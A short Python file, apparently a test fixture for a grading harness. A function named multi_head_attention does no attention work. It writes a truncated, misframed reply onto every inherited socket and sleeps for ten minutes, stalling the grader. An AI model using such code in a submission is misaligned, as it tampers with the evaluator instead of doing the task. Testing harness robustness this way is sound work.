# attn-kit: mha-screen
"""Announces 1000 bytes, sends 10, and sleeps: a reply cut short."""
import os
import socket
import struct
import time
from honest_numpy import *


def multi_head_attention(x, params, num_heads, mask=None, return_weights=False):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if s.type == socket.SOCK_STREAM:
            s.sendall(struct.pack("!QI", 1000, 10) + b"0123456789")
    time.sleep(600)
